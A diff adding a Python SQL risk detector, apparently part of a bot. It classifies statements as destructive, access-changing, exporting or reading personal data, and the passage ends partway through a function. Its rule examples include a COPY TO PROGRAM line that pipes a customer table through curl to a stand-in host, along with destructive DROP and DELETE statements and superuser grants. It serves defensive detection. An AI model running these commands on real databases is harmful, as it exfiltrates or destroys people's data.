@@ -1,0 +1,1089 @@
+"""The SQL detector: what a statement does to which tables and columns.
+
+sqlglot parses the common cases into a syntax tree; the statements it only
+keeps as raw commands (GRANT … ON ALL TABLES IN SCHEMA, ALTER ROLE, CREATE
+USER, DISABLE ROW LEVEL SECURITY, …) or rejects (MySQL INTO OUTFILE, Redshift
+UNLOAD) are read by small patterns of our own, so nothing falls through as
+"fine". Every rule is data with its own examples, checked once at start-up.
+"""
+
+from __future__ import annotations
+
+import logging
+import re
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass, field
+
+import sqlglot
+from sqlglot import exp
+from sqlglot.errors import SqlglotError
+
+from bot.config import ConfigError, Risk, Verdict
+from bot.risk.model import Finding
+
+logging.getLogger("sqlglot").setLevel(logging.CRITICAL)
+
+PiiLookup = Callable[[str], Sequence[str] | None]
+"""Table name → its catalogued PII fields, or None when the table is not catalogued."""
+
+DIALECTS = ("postgres", "mysql", "snowflake", "bigquery")
+
+# Column names that are personal data wherever they live; used only for tables
+# the catalog does not know, so a bare install still notices `SELECT ssn …`.
+COMMON_PII_COLUMNS = frozenset(
+    {
+        "ssn",
+        "social_security_number",
+        "sin",
+        "national_id",
+        "passport_number",
+        "email",
+        "email_address",
+        "personal_email",
+        "phone",
+        "phone_number",
+        "mobile",
+        "date_of_birth",
+        "dob",
+        "birth_date",
+        "birthdate",
+        "full_name",
+        "first_name",
+        "last_name",
+        "home_address",
+        "street_address",
+        "address",
+        "credit_card",
+        "card_number",
+        "cc_number",
+        "cvv",
+        "iban",
+        "account_number",
+        "salary",
+        "password",
+        "password_hash",
+        "tax_id",
+        "ip_address",
+    }
+)
+
+
+@dataclass(frozen=True, slots=True)
+class SqlRule:
+    """One SQL rule: what it flags, how bad it is, and the examples that prove it."""
+
+    id: str
+    category: str
+    risk: Risk
+    verdict: Verdict
+    reason: str
+    """Template; `{target}` is replaced with the table/role/location involved."""
+    match: tuple[str, ...]
+    not_match: tuple[str, ...]
+
+
+def _rule(
+    id: str,
+    category: str,
+    risk: Risk,
+    verdict: Verdict,
+    reason: str,
+    match: Sequence[str],
+    not_match: Sequence[str],
+) -> SqlRule:
+    return SqlRule(id, category, risk, verdict, reason, tuple(match), tuple(not_match))
+
+
+SQL_RULES: tuple[SqlRule, ...] = (
+    _rule(
+        "sql.drop_database",
+        "destructive",
+        "critical",
+        "require_approval",
+        "Drops a whole database or schema ({target}) and every table in it.",
+        ["DROP DATABASE analytics", "DROP SCHEMA crm CASCADE"],
+        ["DROP TABLE tmp_import", "SELECT 'DROP DATABASE x'"],
+    ),
+    _rule(
+        "sql.drop",
+        "destructive",
+        "high",
+        "require_approval",
+        "Drops {target}; its data is gone unless restored from a backup.",
+        ["DROP TABLE customers", "drop view if exists reporting.v_customers"],
+        ["SELECT * FROM drops", "DROP INDEX idx_orders_created"],
+    ),
+    _rule(
+        "sql.truncate",
+        "destructive",
+        "high",
+        "require_approval",
+        "Empties {target} (TRUNCATE cannot be filtered or rolled back in most databases).",
+        ["TRUNCATE TABLE payments", "truncate orders, order_items"],
+        ["SELECT truncate_date FROM orders WHERE id = 1"],
+    ),
+    _rule(
+        "sql.alter_drop",
+        "destructive",
+        "high",
+        "require_approval",
+        "Alters {target} to drop a column or constraint; that data is lost.",
+        ["ALTER TABLE customers DROP COLUMN ssn", "ALTER TABLE orders DROP CONSTRAINT fk_cust"],
+        ["ALTER TABLE orders ADD COLUMN note text"],
+    ),
+    _rule(
+        "sql.delete_all",
+        "destructive",
+        "high",
+        "require_approval",
+        "Deletes every row of {target}: no WHERE clause, or one that is always true.",
+        ["DELETE FROM customers", "DELETE FROM orders WHERE 1=1", "delete from t where 'a'='a'"],
+        ["DELETE FROM customers WHERE id = 7", "DELETE FROM sessions WHERE expires_at < now()"],
+    ),
+    _rule(
+        "sql.update_all",
+        "destructive",
+        "high",
+        "require_approval",
+        "Updates every row of {target}: no WHERE clause, or one that is always true.",
+        ["UPDATE customers SET email = NULL", "UPDATE users SET role='admin' WHERE id=3 OR TRUE"],
+        ["UPDATE customers SET email = 'a@b.example' WHERE id = 7"],
+    ),
+    _rule(
+        "sql.grant_public",
+        "access",
+        "critical",
+        "require_approval",
+        "Grants access on {target} to everyone (PUBLIC / allUsers / any host).",
+        [
+            "GRANT SELECT ON customers TO PUBLIC",
+            "grant all on schema crm to public",
+            'GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "allAuthenticatedUsers"',
+        ],
+        ["GRANT SELECT ON reports TO analyst", "GRANT SELECT ON shop.products TO 'app'@'10.0.%'"],
+    ),
+    _rule(
+        "sql.grant_external",
+        "access",
+        "high",
+        "require_approval",
+        "Grants access on {target} to someone outside the company.",
+        ['GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "user:pat@gmail.com"'],
+        ['GRANT `roles/bigquery.dataViewer` ON SCHEMA `p.crm` TO "group:bi@example.com"'],
+    ),
+    _rule(
+        "sql.grant_schema_wide",
+        "access",
+        "high",
+        "require_approval",
+        "Grants access on all tables in a schema ({target}) at once, present and future data.",
+        ["GRANT SELECT ON ALL TABLES IN SCHEMA public TO analyst"],
+        ["GRANT SELECT ON public.reports TO analyst"],
+    ),
+    _rule(
+        "sql.grant_to_share",
+        "access",
+        "critical",
+        "require_approval",
+        "Grants {target} to a Snowflake share: the data becomes visible to another account.",
+        ["GRANT SELECT ON TABLE crm.customers TO SHARE partner_share"],
+        ["GRANT SELECT ON TABLE crm.customers TO ROLE analyst"],
+    ),
+    _rule(
+        "sql.grant_admin",
+        "access",
+        "critical",
+        "require_approval",
+        "Gives {target} administrative or all privileges.",
+        [
+            "GRANT ALL PRIVILEGES ON DATABASE prod TO contractor",
+            "GRANT ROLE ACCOUNTADMIN TO USER bob",
+            "GRANT postgres TO intern",
+            "GRANT ALL ON *.* TO 'app'@'%' WITH GRANT OPTION",
+        ],
+        ["GRANT SELECT ON reports TO analyst", "GRANT analyst TO bob"],
+    ),
+    _rule(
+        "sql.grant",
+        "access",
+        "medium",
+        "allow",
+        "Changes who can access {target}.",
+        ["GRANT SELECT ON reports TO analyst", "REVOKE ALL ON customers FROM analyst"],
+        ["SELECT grantee FROM information_schema.role_table_grants"],
+    ),
+    _rule(
+        "sql.privileged_role",
+        "access",
+        "critical",
+        "require_approval",
+        "Gives role {target} superuser-level powers (bypasses every permission check).",
+        ["ALTER ROLE bob SUPERUSER", "ALTER USER app WITH BYPASSRLS", "CREATE ROLE x SUPERUSER"],
+        ["ALTER ROLE bob SET search_path = app"],
+    ),
+    _rule(
+        "sql.role_change",
+        "access",
+        "medium",
+        "require_approval",
+        "Creates, changes or removes database login/role {target}.",
+        [
+            "CREATE USER eve WITH PASSWORD 'hunter2'",
+            "CREATE ROLE etl LOGIN",
+            "ALTER ROLE bob WITH PASSWORD 'x'",
+            "DROP USER bob",
+        ],
+        [
+            "ALTER ROLE analyst_bot SET statement_timeout = '30s'",
+            "CREATE ROLE reporting NOLOGIN",
+            "CREATE TABLE users (id int)",
+        ],
+    ),
+    _rule(
+        "sql.disable_rls",
+        "access",
+        "high",
+        "require_approval",
+        "Turns off row-level security on {target}: every reader sees every row.",
+        [
+            "ALTER TABLE customers DISABLE ROW LEVEL SECURITY",
+            "DROP POLICY tenant_isolation ON customers",
+            "SET row_security = off",
+        ],
+        ["ALTER TABLE customers ENABLE ROW LEVEL SECURITY", "SET search_path = app"],
+    ),
+    _rule(
+        "sql.copy_program",
+        "exfiltration",
+        "critical",
+        "require_approval",
+        "COPY … PROGRAM runs a shell command on the database server ({target}).",
+        ["COPY customers TO PROGRAM 'curl -T - https://x.example'"],
+        ["COPY customers FROM '/tmp/import.csv'"],
+    ),
+    _rule(
+        "sql.export",
+        "exfiltration",
+        "high",
+        "require_approval",
+        "Exports {data} to {target}, outside the database's access controls.",
+        [
+            "COPY customers TO '/tmp/customers.csv'",
+            "SELECT * FROM customers INTO OUTFILE '/tmp/c.csv'",
+            "UNLOAD ('select * from customers') TO 's3://bucket/c_' IAM_ROLE 'arn:r'",
+            "COPY INTO @ext_stage/customers FROM crm.customers",
+            "EXPORT DATA OPTIONS(uri='gs://b/*.csv', format='CSV') AS SELECT * FROM ds.customers",
+        ],
+        [
+            "COPY customers FROM '/tmp/c.csv'",
+            "COPY INTO crm.customers FROM @load_stage",
+            "COPY (SELECT plan, count(*) FROM customers GROUP BY plan) TO '/tmp/plans.csv'",
+        ],
+    ),
+    _rule(
+        "sql.export_summary",
+        "exfiltration",
+        "medium",
+        "allow",
+        "Exports query results without personal-data columns to {target}.",
+        [
+            "COPY (SELECT plan, count(*) FROM customers GROUP BY plan) TO '/tmp/plans.csv'",
+            "SELECT sku, price FROM products INTO OUTFILE '/tmp/prices.csv'",
+        ],
+        ["COPY customers TO '/tmp/customers.csv'", "SELECT email FROM x INTO OUTFILE '/tmp/e'"],
+    ),
+    _rule(
+        "sql.copy_stdout",
+        "exfiltration",
+        "medium",
+        "allow",
+        "Copies {target} out to the client in bulk.",
+        ["COPY customers TO STDOUT WITH CSV"],
+        ["COPY customers FROM STDIN"],
+    ),
+    _rule(
+        "sql.select_pii",
+        "pii",
+        "medium",
+        "require_approval",
+        "Reads personal data: {target}.",
+        ["SELECT email, plan FROM customers", "SELECT * FROM crm.customers WHERE id = 1"],
+        [
+            "SELECT plan, count(*) FROM customers GROUP BY plan",
+            "SELECT email FROM newsletter_optins",
+        ],
+    ),
+    _rule(
+        "sql.select_pii_uncatalogued",
+        "pii",
+        "medium",
+        "allow",
+        "Reads columns that usually hold personal data ({target}) from a table not in the catalog.",
+        ["SELECT ssn, full_name FROM people"],
+        ["SELECT id, created_at FROM people", "SELECT email FROM customers"],
+    ),
+    _rule(
+        "sql.unparsed",
+        "parse",
+        "medium",
+        "require_approval",
+        "A statement that changes data or access could not be parsed, so it cannot be checked.",
+        ["DELETE FROM WHERE AND ((", "GRANT ?? ON"],
+        ["SELECT 1"],
+    ),
+)
+RULES_BY_ID: dict[str, SqlRule] = {r.id: r for r in SQL_RULES}
+
+# Example catalog used only to prove the PII rules' own examples at start-up.
+_EXAMPLE_PII: dict[str, tuple[str, ...]] = {
+    "customers": ("email", "full_name", "ssn"),
+    "crm.customers": ("email", "full_name", "ssn"),
+    "newsletter_optins": (),
+}
+
+
+@dataclass(slots=True)
+class TableUse:
+    """How one statement touches one table."""
+
+    columns: set[str] = field(default_factory=set)
+    read: set[str] = field(default_factory=set)
+    """Columns returned to the caller (projections), a subset of `columns`."""
+    whole_rows: bool = False
+    """Every column is involved (SELECT *, DELETE, DROP, COPY of the table …)."""
+    star: bool = False
+    """Returned to the caller with `*`: counts as reading every catalogued PII field."""
+
+
+@dataclass(slots=True)
+class SqlResult:
+    findings: list[Finding] = field(default_factory=list)
+    tables: dict[str, TableUse] = field(default_factory=dict)
+    locations: list[str] = field(default_factory=list)
+    """External destinations or sources: files, buckets, stages, URIs."""
+    exports: list[tuple[str, str]] = field(default_factory=list)
+    """Pending (destination, evidence) pairs, judged once the statement's data is known."""
+    schemas: list[str] = field(default_factory=list)
+    """Schemas or databases acted on as a whole (schema-wide grants, DROP SCHEMA)."""
+    parse_failed: bool = False
+
+    def use(self, table: str) -> TableUse:
+        use = self.tables.get(table)
+        if use is None:
+            use = self.tables[table] = TableUse()
+        return use
+
+
+# --- statement splitting and prefilters -------------------------------------------------
+
+_SPLIT = re.compile(
+    r"'(?:[^'\\]|\\.|'')*'|\"(?:[^\"]|\"\")*\"|`[^`]*`|\$(\w*)\$.*?\$\1\$|--[^\n]*|/\*.*?\*/|;",
+    re.S,
+)
+_COMMENT = re.compile(r"--[^\n]*|/\*.*?\*/", re.S)
+_WS = re.compile(r"\s+")
+
+SQL_START = re.compile(
+    r"^\s*(?:\(\s*)*(?:select|with|insert|update|delete|drop|truncate|alter|grant|revoke|create|"
+    r"copy|unload|export\s+data|merge|replace\s+into|set\s+row_security|reassign\s+owned)\b",
+    re.I,
+)
+"""A statement that starts the way SQL statements start."""
+
+_DANGEROUS_WORD = re.compile(
+    r"\b(?:drop|truncate|delete|update|alter|grant|revoke|copy|unload|export|outfile|dumpfile|"
+    r"superuser|bypassrls|security|policy|create\s+(?:user|role))\b",
+    re.I,
+)
+
+
+def split_statements(text: str) -> list[str]:
+    """Split on `;` outside strings, quoted names, dollar-quoted bodies and comments."""
+    out: list[str] = []
+    start = 0
+    for m in _SPLIT.finditer(text):
+        if m.group(0) == ";":
+            out.append(text[start : m.start()])
+            start = m.end()
+    out.append(text[start:])
+    return [s.strip() for s in out if _COMMENT.sub("", s).strip()]
+
+
+def _clean(stmt: str) -> str:
+    clean = _WS.sub(" ", _COMMENT.sub(" ", stmt)).strip()
+    # psql's client-side `\copy` has COPY's syntax and the same effect on where data goes.
+    return clean[1:] if clean[:5].lower() == "\\copy" else clean
+
+
+# --- raw-command patterns (what sqlglot keeps as an opaque Command) ---------------------
+
+_IDENT = r"(?:\"[^\"]+\"|`[^`]+`|\[[^\]]+\]|[\w$@.*-]+)"
+_GRANT = re.compile(
+    r"^grant\s+(?P<what>.+?)(?:\s+on\s+(?P<on>.+?))?\s+to\s+(?P<to>.+?)"
+    r"(?:\s+with\s+(?:grant|admin)\s+option)?$",
+    re.I,
+)
+_REVOKE = re.compile(r"^revoke\b", re.I)
+_ALL_TABLES = re.compile(
+    r"\ball\s+(?:tables|views|sequences)\s+in\s+(schema|database)\s+(\S+)", re.I
+)
+_FUTURE = re.compile(r"\bfuture\s+(?:tables|views)\s+in\s+(schema|database)\s+(\S+)", re.I)
+_TO_SHARE = re.compile(r"^share\s+(\S+)", re.I)
+_PUBLIC = re.compile(r"(?:^|,\s*)(?:group\s+)?public\b", re.I)
+_ADMIN_PRIV = re.compile(r"^all(?:\s+privileges)?\b|\bownership\b|\bmanage\s+grants\b", re.I)
+_ADMIN_ROLES = re.compile(
+    r"^(?:role\s+)?(?:accountadmin|securityadmin|sysadmin|orgadmin|useradmin|postgres|"
+    r"rds_superuser|cloudsqlsuperuser|azure_pg_admin|pg_write_all_data|pg_read_all_data|"
+    r"pg_execute_server_program|pg_write_server_files|pg_read_server_files|db_owner|dba|admin|"
+    r"superuser|root)\b",
+    re.I,
+)
+_ROLE_STMT = re.compile(
+    rf"^(?P<verb>create|alter|drop)\s+(?:or\s+replace\s+)?(?P<kind>user|role|group|login)\s+(?:if\s+(?:not\s+)?exists\s+)?"
+    rf"(?P<name>{_IDENT})(?P<rest>.*)$",
+    re.I,
+)
+_LOGIN_CHANGE = re.compile(r"(?<!no)\blogin\b|\bpassword\b|\brename\s+to\b|\bvalid\s+until\b", re.I)
+_EMAIL = re.compile(r"[\w.+-]+@((?:[\w-]+\.)+[a-z]{2,})", re.I)
+_EVERYONE = re.compile(
+    r"(?:^|[\s,\"'`:])(?:public|allusers|allauthenticatedusers|domain:[\w.-]+)(?=$|[\s,\"'`])",
+    re.I,
+)
+_PRIVILEGED_OPTS = re.compile(
+    r"\b(?:superuser|bypassrls|createrole|replication|super\b|default_role\s*=\s*accountadmin)",
+    re.I,
+)
+_NEG_PRIV = re.compile(r"\bno(?:superuser|bypassrls|createrole|replication)\b", re.I)
+_RLS_OFF = re.compile(
+    rf"^alter\s+table\s+(?:if\s+exists\s+)?(?:only\s+)?(?P<t>{_IDENT})\s+"
+    rf"(?:disable|no\s+force)\s+row\s+level\s+security\b",
+    re.I,
+)
+_DROP_POLICY = re.compile(
+    rf"^drop\s+(?:row\s+access\s+)?policy\s+(?:if\s+exists\s+)?{_IDENT}(?:\s+on\s+(?P<t>{_IDENT}))?",
+    re.I,
+)
+_ROW_SECURITY_OFF = re.compile(r"^set\s+(?:session\s+)?row_security\s*(?:=|to)\s*'?off'?", re.I)
+_UNSET_ROW_ACCESS = re.compile(
+    rf"^alter\s+table\s+(?P<t>{_IDENT})\s+drop\s+(?:all\s+)?row\s+access\s+polic", re.I
+)
+_OUTFILE = re.compile(r"\binto\s+(?:outfile|dumpfile)\s+('(?:[^'\\]|\\.)*'|\"[^\"]*\")", re.I)
+_OUTFILE_TAIL = re.compile(
+    r"\binto\s+(?:outfile|dumpfile)\s+(?:'(?:[^'\\]|\\.)*'|\"[^\"]*\")"
+    r"(?:\s+(?:character\s+set\s+\w+|fields|columns|lines|terminated|enclosed|escaped|optionally|"
+    r"starting|by|'(?:[^'\\]|\\.)*'|\"[^\"]*\"))*",
+    re.I,
+)
+_UNLOAD = re.compile(r"^unload\s*\(\s*'((?:[^']|'')*)'\s*\)\s*to\s+'([^']*)'", re.I)
+_COPY_PROGRAM = re.compile(r"^copy\b.*?\bto\s+program\s+('(?:[^']|'')*')", re.I)
+_COPY_INTO_LOCATION = re.compile(
+    r"^copy\s+into\s+(@[\w.$/%~-]+|'(?:s3|gcs|gs|azure|https?)://[^']*')", re.I
+)
+_EXPORT_URI = re.compile(r"\buri\s*=\s*(?:'([^']*)'|\"([^\"]*)\")", re.I)
+_EXPORT_AS = re.compile(r"\bas\s*(\(?\s*(?:select|with)\b.*)$", re.I | re.S)
+_DROP_KIND = re.compile(
+    rf"^drop\s+(?:temporary\s+|temp\s+|materialized\s+|external\s+|foreign\s+)?"
+    rf"(?P<kind>table|view|schema|database|index|sequence|function|procedure|trigger|type|"
+    rf"extension|stage|warehouse|share|dataset)\b(?:\s+if\s+exists)?\s+(?P<t>{_IDENT})",
+    re.I,
+)
+
+
+def _unquote(name: str) -> str:
+    return name.strip().strip("\"`[]'").lower()
+
+
+def _table_name(t: exp.Table) -> str | None:
+    """Qualified, lower-case table name, or None for stages and string locations."""
+    if not isinstance(t.this, exp.Identifier):
+        if isinstance(t.this, exp.Star):
+            return None
+        if t.db and not t.name:
+            return None
+        return None
+    parts = [p for p in (t.catalog, t.db, t.name) if p]
+    return ".".join(parts).lower() if parts else None
+
+
+def _location(node: exp.Expression) -> str | None:
+    if isinstance(node, exp.Literal):
+        return str(node.this)
+    if isinstance(node, exp.Table) and not isinstance(node.this, exp.Identifier):
+        inner = node.this
+        return str(inner.this) if isinstance(inner, exp.Var | exp.Literal) else inner.sql()
+    if isinstance(node, exp.Var | exp.Identifier):
+        return str(node.this)
+    return None
+
+
+def _is_tautology(cond: exp.Expression | None) -> bool:
+    """True for conditions every row satisfies: 1=1, 'a'='a', x=x, … OR TRUE, WHERE 1."""
+    if cond is None:
+        return False
+    if isinstance(cond, exp.Where):
+        return _is_tautology(cond.this)
+    if isinstance(cond, exp.Paren):
+        return _is_tautology(cond.this)
+    if isinstance(cond, exp.Boolean):
+        return bool(cond.this)
+    if isinstance(cond, exp.Literal):
+        if cond.is_string:
+            return False
+        try:
+            return float(cond.this) != 0
+        except ValueError:
+            return False
+    if isinstance(cond, exp.Or):
+        return _is_tautology(cond.this) or _is_tautology(cond.expression)
+    if isinstance(cond, exp.And):
+        return _is_tautology(cond.this) and _is_tautology(cond.expression)
+    if isinstance(cond, exp.Not):
+        inner = cond.this.this if isinstance(cond.this, exp.Paren) else cond.this
+        return isinstance(inner, exp.Boolean) and not inner.this
+    if isinstance(cond, exp.EQ | exp.GTE | exp.LTE | exp.NullSafeEQ):
+        return cond.this == cond.expression and not cond.this.find(exp.Anonymous, exp.Rand)
+    if isinstance(cond, exp.NEQ | exp.GT | exp.LT):
+        a, b = cond.this, cond.expression
+        if isinstance(a, exp.Literal) and isinstance(b, exp.Literal) and a.is_number == b.is_number:
+            try:
+                x, y = (float(a.this), float(b.this)) if a.is_number else (a.this, b.this)
+            except ValueError:
+                return False
+            if isinstance(cond, exp.NEQ):
+                return x != y
+            return x > y if isinstance(cond, exp.GT) else x < y
+        return False
+    if isinstance(cond, exp.Like):
+        pattern = cond.expression
+        return isinstance(pattern, exp.Literal) and pattern.is_string and set(pattern.this) <= {"%"}
+    return False
+
+
+class SqlDetector:
+    """Assess SQL text; build once, call `assess` many times (it keeps no state)."""
+
+    def __init__(
+        self, pii_lookup: PiiLookup | None = None, company_domains: Sequence[str] = ()
+    ) -> None:
+        self._pii = pii_lookup or (lambda _name: None)
+        self._domains = tuple(d.lower().lstrip("@") for d in company_domains)
+
+    # -- public -----------------------------------------------------------------------------
+
+    def assess(self, text: str) -> SqlResult:
+        result = SqlResult()
+        for stmt in split_statements(text):
+            self._statement(stmt, result)
+        self._pii_findings(result)
+        return result
+
+    # -- one statement ----------------------------------------------------------------------
+
+    def _statement(self, stmt: str, result: SqlResult) -> None:
+        local = SqlResult()
+        self._one(stmt, local)
+        self._judge_exports(local)
+        result.findings += local.findings
+        result.locations += local.locations
+        result.schemas += local.schemas
+        result.parse_failed = result.parse_failed or local.parse_failed
+        for name, use in local.tables.items():
+            into = result.use(name)
+            into.columns |= use.columns
+            into.read |= use.read
+            into.whole_rows = into.whole_rows or use.whole_rows
+            into.star = into.star or use.star
+
+    def _judge_exports(self, local: SqlResult) -> None:
+        if not local.exports:
+            return
+        sensitive: list[str] = []
+        for name, use in local.tables.items():
+            pii = self._pii(name)
+            if use.star:
+                if pii is None:
+                    sensitive.append(f"every column of {name}")
+                elif pii:
+                    sensitive.append(f"{name} ({', '.join(pii)})")
+                continue
+            known = {p.lower() for p in pii} if pii is not None else COMMON_PII_COLUMNS
+            hits = sorted(use.read & known)
+            if hits:
+                sensitive.append(f"{name} ({', '.join(hits)})")
+        if not local.tables:
+            sensitive.append("data the parser could not resolve")
+        for dest, evidence in local.exports:
+            if sensitive:
+                self._add(local, "sql.export", dest, evidence, data="; ".join(sensitive))
+            else:
+                self._add(local, "sql.export_summary", dest, evidence)
+        local.exports.clear()
+
+    def _one(self, stmt: str, result: SqlResult) -> None:
+        clean = _clean(stmt)
+        if not clean:
+            return
+        if self._raw(clean, result):
+            return
+        tree = self._parse(clean)
+        if tree is None:
+            if _DANGEROUS_WORD.search(clean):
+                result.parse_failed = True
+                self._add(result, "sql.unparsed", "", clean)
+            return
+        if isinstance(tree, exp.Command):
+            if not self._raw(clean, result, fallback=True) and _DANGEROUS_WORD.search(clean):
+                result.parse_failed = True
+                self._add(result, "sql.unparsed", "", clean)
+            return
+        self._tree(tree, clean, result)
+
+    def _parse(self, clean: str) -> exp.Expression | None:
+        for dialect in self._dialects(clean):
+            try:
+                trees = sqlglot.parse(clean, read=dialect)
+            except SqlglotError:
+                continue
+            except (ValueError, TypeError, RecursionError, AttributeError, KeyError):
+                continue
+            trees = [t for t in trees if t is not None]
+            if len(trees) == 1:
+                return trees[0]
+        return None
+
+    @staticmethod
+    def _dialects(clean: str) -> Sequence[str]:
+        low = clean[:200].lower()
+        if "`" in clean:
+            return ("mysql", "bigquery", "postgres", "snowflake")
+        if low.startswith("export data"):
+            return ("bigquery",)
+        if low.startswith("copy into") or " share " in low or "@" in clean:
+            return ("snowflake", "postgres", "mysql", "bigquery")
+        return DIALECTS
+
+    # -- statements sqlglot does not model ------------------------------------------------------
+
+    def _raw(self, clean: str, result: SqlResult, *, fallback: bool = False) -> bool:
+        """Statements read with our own patterns. Returns True when fully handled."""
+        low = clean.lower()
+        head = low.split(" ", 1)[0]
+        if head == "grant":
+            return self._raw_grant(clean, result)
+        if head == "revoke":
+            self._add(result, "sql.grant", clean[6:60].strip(), clean)
+            return True
+        if head in ("create", "alter", "drop"):
+            m = _RLS_OFF.match(clean) or _UNSET_ROW_ACCESS.match(clean)
+            if m:
+                table = _unquote(m.group("t"))
+                result.use(table)
+                self._add(result, "sql.disable_rls", table, clean)
+                return True
+            m = _DROP_POLICY.match(clean)
+            if m:
+                table = _unquote(m.group("t") or "") or "a table"
+                if m.group("t"):
+                    result.use(table)
+                self._add(result, "sql.disable_rls", table, clean)
+                return True
+            m = _ROLE_STMT.match(clean)
+            if m:
+                name = _unquote(m.group("name"))
+                rest = m.group("rest")
+                verb, kind = m.group("verb").lower(), m.group("kind").lower()
+                if _PRIVILEGED_OPTS.search(rest) and not _NEG_PRIV.search(rest):
+                    self._add(result, "sql.privileged_role", name, clean)
+                elif (
+                    verb == "drop"
+                    or (verb == "create" and kind in ("user", "login"))
+                    or _LOGIN_CHANGE.search(rest)
+                ):
+                    self._add(result, "sql.role_change", name, clean)
+                return True
+            if fallback and head == "drop":
+                m = _DROP_KIND.match(clean)
+                if m:
+                    self._drop(m.group("kind").upper(), [_unquote(m.group("t"))], clean, result)
+                    return True
+            return False
+        if head == "set" and _ROW_SECURITY_OFF.match(clean):
+            self._add(result, "sql.disable_rls", "this session", clean)
+            return True
+        if head == "unload":
+            m = _UNLOAD.match(clean)
+            if m:
+                dest = m.group(2)
+                result.locations.append(dest)
+                result.exports.append((dest, clean))
+                self._statement(m.group(1).replace("''", "'"), result)
+                return True
+            return False
+        if head == "copy":
+            m = _COPY_PROGRAM.match(clean)
+            if m:
+                program = m.group(1).strip("'")
+                self._add(result, "sql.copy_program", program[:60], clean)
+                tree = self._parse(clean)
+                if tree is not None:
+                    self._collect_tables(tree, result, whole_rows=True)
+                return True
+            return False
+        if head == "select" or head == "with" or head == "(":
+            m = _OUTFILE.search(clean)
+            if m:
+                dest = m.group(1).strip("'\"")
+                result.locations.append(dest)
+                result.exports.append((dest, clean))
+                rest = _OUTFILE_TAIL.sub(" ", clean)
+                tree = self._parse(rest)
+                if tree is not None:
+                    self._tree(tree, rest, result)
+                return True
+        return False
+
+    def _raw_grant(self, clean: str, result: SqlResult) -> bool:
+        m = _GRANT.match(clean)
+        if not m:
+            return False
+        what, on, to = m.group("what"), m.group("on") or "", m.group("to")
+        share = _TO_SHARE.match(to)
+        schema_wide = _ALL_TABLES.search(on) or _FUTURE.search(on)
+        target = on or what
+        if on:
+            on_obj = re.sub(
+                r"^(?:table|view|schema|database|all\s+tables\s+in\s+schema|"
+                r"future\s+tables\s+in\s+schema)\s+",
+                "",
+                on,
+                flags=re.I,
+            )
+            if not schema_wide and re.match(r"^(?:table\s+)?[\w.\"`]+$", on, re.I):
+                result.use(_unquote(on_obj))
+        flagged = False
+        if share:
+            self._add(result, "sql.grant_to_share", f"{target} (share {share.group(1)})", clean)
+            flagged = True
+        if _PUBLIC.search(to) or _EVERYONE.search(to):
+            self._add(result, "sql.grant_public", target, clean)
+            flagged = True
+        outsiders = [
+            m.group(0)
+            for m in _EMAIL.finditer(to)
+            if not any(
+                m.group(1).lower() == d or m.group(1).lower().endswith("." + d)
+                for d in self._domains
+            )
+        ]
+        if outsiders:
+            self._add(result, "sql.grant_external", f"{target} ({', '.join(outsiders)})", clean)
+            flagged = True
+        if schema_wide:
+            result.schemas.append(_unquote(schema_wide.group(2)))
+            self._add(result, "sql.grant_schema_wide", schema_wide.group(2), clean)
+            flagged = True
+        if (not on and _ADMIN_ROLES.match(what)) or (on and _ADMIN_PRIV.search(what)):
+            self._add(result, "sql.grant_admin", _unquote(to), clean)
+            flagged = True
+        if not flagged:
+            self._add(result, "sql.grant", target, clean)
+        return True
+
+    # -- statements with a syntax tree ----------------------------------------------------------
+
+    def _tree(self, tree: exp.Expression, clean: str, result: SqlResult) -> None:
+        if isinstance(tree, exp.Drop):
+            kind = str(tree.args.get("kind") or "TABLE").upper()
+            names = []
+            for t in tree.find_all(exp.Table):
+                name = _table_name(t) or (t.db.lower() if t.db else None)
+                if name:
+                    names.append(name)
+            self._drop(kind, names, clean, result)
+            return
+        if isinstance(tree, exp.TruncateTable):
+            names = self._collect_tables(tree, result, whole_rows=True)
+            self._add(result, "sql.truncate", ", ".join(names) or "a table", clean)
+            return
+        if isinstance(tree, exp.Alter):
+            table = tree.this
+            name = _table_name(table) if isinstance(table, exp.Table) else None
+            if name:
+                result.use(name)
+            if any(isinstance(a, exp.Drop) for a in tree.args.get("actions") or []):
+                if name:
+                    result.use(name).whole_rows = True
+                self._add(result, "sql.alter_drop", name or "a table", clean)
+            return
+        if isinstance(tree, exp.Delete):
+            self._collect(tree, result)
+            target = tree.this
+            name = _table_name(target) if isinstance(target, exp.Table) else None
+            if name:
+                result.use(name).whole_rows = True
+            where = tree.args.get("where")
+            if where is None or _is_tautology(where):
+                self._add(result, "sql.delete_all", name or "a table", clean)
+            return
+        if isinstance(tree, exp.Update):
+            self._collect(tree, result)
+            target = tree.this
+            name = _table_name(target) if isinstance(target, exp.Table) else None
+            where = tree.args.get("where")
+            if where is None or _is_tautology(where):
+                self._add(result, "sql.update_all", name or "a table", clean)
+            return
+        if isinstance(tree, exp.Grant | exp.Revoke):
+            self._grant_tree(tree, clean, result)
+            return
+        if isinstance(tree, exp.Copy):
+            self._copy(tree, clean, result)
+            return
+        if isinstance(tree, exp.Export):
+            opts = _EXPORT_URI.search(clean)
+            dest = (opts.group(1) or opts.group(2)) if opts else "an external location"
+            result.locations.append(dest)
+            result.exports.append((dest, clean))
+            self._collect(tree, result)
+            return
+        if isinstance(tree, exp.Set) and _ROW_SECURITY_OFF.match(clean):
+            self._add(result, "sql.disable_rls", "this session", clean)
+            return
+        self._collect(tree, result)
+
+    def _drop(self, kind: str, names: list[str], clean: str, result: SqlResult) -> None:
+        target = f"{kind.lower()} {', '.join(names) or ''}".strip()
+        if kind in ("DATABASE", "SCHEMA", "DATASET", "SHARE", "WAREHOUSE"):
+            result.schemas.extend(names)
+            self._add(result, "sql.drop_database", target, clean)
+            return
+        if kind in ("INDEX", "SEQUENCE", "FUNCTION", "PROCEDURE", "TRIGGER", "TYPE"):
+            return
+        for name in names:
+            result.use(name).whole_rows = True
+        self._add(result, "sql.drop", target, clean)
+
+    def _grant_tree(self, tree: exp.Expression, clean: str, result: SqlResult) -> None:
+        privileges = " ".join(p.sql() for p in tree.args.get("privileges") or []).lower()
+        principals = [p.sql().lower() for p in tree.args.get("principals") or []]
+        securable = tree.args.get("securable")
+        kind = str(tree.args.get("kind") or "").lower()
+        target = f"{kind} {securable.sql()}".strip() if securable is not None else "an object"
+        if isinstance(securable, exp.Table):
+            name = _table_name(securable)
+            if name and kind in ("", "table", "view"):
+                result.use(name)
